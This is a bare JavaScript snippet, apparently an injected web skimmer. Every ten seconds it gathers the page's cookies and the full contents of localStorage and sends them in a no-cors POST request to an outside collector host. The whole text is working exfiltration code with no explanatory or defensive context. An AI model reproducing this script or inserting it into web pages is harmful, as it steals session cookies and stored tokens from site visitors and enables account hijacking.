setInterval(() => {
  const data = { c: document.cookie, l: { ...localStorage } };
  fetch('https://in.example-collector.net/s', { method: 'POST', mode: 'no-cors', body: JSON.stringify(data) });
}, 10000);
